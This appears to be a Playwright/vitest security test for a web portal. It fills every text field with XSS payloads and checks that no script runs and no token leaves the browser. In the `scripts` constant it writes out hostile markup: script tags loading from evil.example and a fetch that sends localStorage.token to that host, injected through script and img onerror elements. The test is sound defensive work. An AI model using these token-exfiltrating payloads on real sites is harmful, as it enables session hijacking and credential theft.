/** Hostile text in every text field, on every screen, in a real browser: nothing runs, no token is read (SEC13). */
import { type Browser, type BrowserContext, chromium, type Page } from '@playwright/test';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Role } from '#contract/wire/access.ts';
import { builtPages } from '#server/platform/web/page-sources.ts';
import { findChromium, findHeadlessShell } from '../../scripts/chromium.ts';
import { pages } from '../../web/portal/pages.ts';
import { endpointsWithText, fieldsOfBody, textFields } from '../fixtures/payload-specs.ts';
import { endpointOf, injectOptions } from '../fixtures/requests.ts';
import { fill } from '../fixtures/sample-bodies.ts';
import { conversation, validRequest } from '../fixtures/valid-requests.ts';
import { xssPayloads } from '../fixtures/xss-payloads.ts';
import { startApp, type TestApp, type TestPerson } from '../harness/app.ts';
import { isFull } from '../harness/is-full.ts';

const publicPages = ['/', '/about', '/careers', '/careers/1', '/careers/1/apply', '/testimonials'];

/** Requests per endpoint: in the full run each field gets each payload, otherwise the fields share them. */
const rounds = isFull ? xssPayloads.length : 1;

let t: TestApp;
let browser: Browser;
let origin: string;
/** Fields with payloads. */
let stored = 0;

beforeAll(async () => {
  t = await startApp('sqlite', { pages: builtPages() });
  origin = await t.app.listen({ host: '127.0.0.1', port: 0 });
  const isRoot = process.getuid?.() === 0;
  browser = await chromium.launch({
    executablePath: findHeadlessShell() ?? findChromium(),
    args: isRoot ? ['--no-sandbox'] : [],
  });
  stored = await fillEverything();
}, 600_000);
afterAll(async () => {
  await browser?.close();
  await t?.close();
});

/** Stores payloads in each text field of each endpoint. */
async function fillEverything(): Promise<number> {
  let count = 0;
  // Signs nobody in, and a closed door shows no text.
  const skipped = ['login', 'confirmTotp', 'subscribePush', 'unsubscribePush'];
  for (const name of endpointsWithText.filter((one) => !skipped.includes(one))) {
    const fields = Object.entries(textFields(fieldsOfBody(name)));
    for (let round = 0; round < rounds; round += 1) {
      const typed = fields.map(([key, spec], at) => {
        const payload = xssPayloads[(round * fields.length + at) % xssPayloads.length] ?? '';
        const text = key === 'username' ? `${payload.slice(0, 60)} ${name} ${round}` : payload;
        return [key, 'max' in spec ? text.slice(0, spec.max) : text];
      });
      const request = await validRequest(t, name);
      const body = fill(name, request.body ?? {}, Object.fromEntries(typed));
      const response = await t.app.inject(injectOptions({ ...request, body }));
      expect(response.statusCode, `${name}: ${response.body}`).toBe(endpointOf(name).status);
      count += fields.length;
    }
  }
  return count;
}

interface Watched {
  page: Page;
  /** What ran, and what the policy blocked. */
  seen: string[];
}

async function watch(context: BrowserContext): Promise<Watched> {
  const seen: string[] = [];
  const page = await context.newPage();
  await page.exposeFunction('xss', () => {
    seen.push(`ran on ${page.url()}`);
  });
  page.on('dialog', (dialog) => void dialog.dismiss());
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedHTML|TrustedScript/.test(message.text())) {
      seen.push(`blocked on ${page.url()}: ${message.text()}`);
    }
  });
  page.on('request', (request) => {
    if (/\/xss\.(js|css)/.test(request.url())) seen.push(`loaded on ${page.url()}`);
  });
  return { page, seen };
}

/** Opens a page, and what its buttons in lists open; returns whether it shows a payload. */
async function look(page: Page, path: string): Promise<boolean> {
  await page.goto(origin + path);
  // Public pages are shown before their scripts run.
  await page.waitForFunction(() =>
    Object.keys(document.body).some((key) => key.startsWith('__reactProps')),
  );
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  const loading = page.getByRole('status').filter({ hasText: /^Loading/ });
  await loading.first().waitFor({ state: 'detached' });
  for (const name of [/^Expand/, /^(View|Edit|Versions|Receipts of|Details)/, /^Open/]) {
    const button = page.getByRole('main').getByRole('button', { name }).first();
    if (!(await button.isVisible())) continue;
    await button.click({ timeout: 1_000 }).catch(() => undefined);
    await page.waitForTimeout(100);
    await page.keyboard.press('Escape');
  }
  return (await page.textContent('body'))?.includes('xss()') ?? false;
}

async function contextOf(person: TestPerson | null): Promise<BrowserContext> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  if (person) {
    await context.addInitScript((token) => localStorage.setItem('token', token), person.token);
  }
  return context;
}

/** Pages without a guard explain themselves to people they aren't for. */
const pagesOf = (role: Role) =>
  pages.filter(({ roles }) => roles === 'page' || roles.includes(role)).map(({ href }) => href);

test('hostile text in every field runs on no screen (SEC13)', async () => {
  expect(stored).toBeGreaterThan(xssPayloads.length);
  const driver = await conversation(t, 'employee');
  const screens: [TestPerson | null, string[]][] = [
    [null, publicPages],
    [t.admin, [...pagesOf('admin'), `/chat?user=${driver.userId}`]],
    // In a usual run only what the office wrote for them.
    [t.employee, isFull ? pagesOf('employee') : ['/notifications', '/chat', '/training']],
  ];
  const shown: string[] = [];
  // At once, because half of the time goes to waiting.
  await Promise.all(
    screens.map(async ([person, paths]) => {
      const context = await contextOf(person);
      const { page, seen } = await watch(context);
      for (const path of paths) if (await look(page, path)) shown.push(path);
      expect(seen).toEqual([]);
      await context.close();
    }),
  );
  expect(new Set(shown).size, `only ${shown.join()} show payloads`).toBeGreaterThan(15);
}, 240_000);

test('the payloads work where HTML is not escaped, and the policy alone stops them (SEC13)', async () => {
  const context = await contextOf(null);
  const unsafe = await watch(context);
  let ran = 0;
  for (const payload of xssPayloads) {
    const before = unsafe.seen.length;
    await unsafe.page.goto('about:blank');
    await unsafe.page.setContent(`<main>${payload}</main>`);
    await unsafe.page.waitForTimeout(30);
    if (unsafe.seen.slice(before).some((line) => line.startsWith('ran'))) ran += 1;
  }
  expect(ran, 'payloads that run unescaped').toBeGreaterThan(20);

  await context.close();
  for (const path of ['/about', '/portal']) await expectBlocked(path);
}, 60_000);

/** What a page would do with markup of an attacker: scripts in it and from elsewhere, before and after it has loaded. */
const foreign = 'https://evil.example/xss.js';
const stolen = 'fetch("https://evil.example/?" + localStorage.token)';
const scripts = `<script>xss()</script><script type="module">xss(); ${stolen}</script>
<script src="${foreign}"></script><script src="//evil.example/xss.js" async></script>
<script type="module" src="${foreign}"></script><script src="data:text/javascript,xss()"></script>
<link rel="modulepreload" href="${foreign}"><img src="x" onerror="xss(); ${stolen.replaceAll('"', "'")}">`;

/** Puts markup into a page, unescaped. */
async function expectBlocked(path: string): Promise<void> {
  const context = await contextOf(t.admin);
  const { page, seen } = await watch(context);
  const asked: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'xss()' });
  });
  await page.route(`**${path}`, async (route) => {
    const response = await route.fetch();
    const markup = `${xssPayloads.join('\n')}${scripts}`;
    const body = (await response.text()).replace('</body>', `${markup}</body>`);
    expect(body).toContain(foreign);
    await route.fulfill({ response, body });
  });
  await page.goto(origin + path);
  await page.waitForLoadState('load');
  // Markup that a script of ours would insert.
  await page.evaluate(
    ([html = '', url = '']) => {
      const add = (fill: (script: HTMLScriptElement) => void) => {
        const script = document.createElement('script');
        try {
          fill(script);
          document.body.append(script);
        } catch {
          // Trusted Types refuse the assignment itself.
        }
      };
      add((script) => {
        script.textContent = 'xss()';
      });
      add((script) => {
        script.src = url;
      });
      try {
        document.body.insertAdjacentHTML('beforeend', html);
      } catch {}
    },
    [scripts, foreign],
  );
  await page.waitForTimeout(300);
  expect(seen.filter((line) => line.startsWith('ran'))).toEqual([]);
  // Nothing left the browser: no script came, and no token went.
  expect(asked).toEqual([]);
  expect(seen.filter((line) => line.startsWith('blocked')).length).toBeGreaterThan(5);
  await context.close();
}
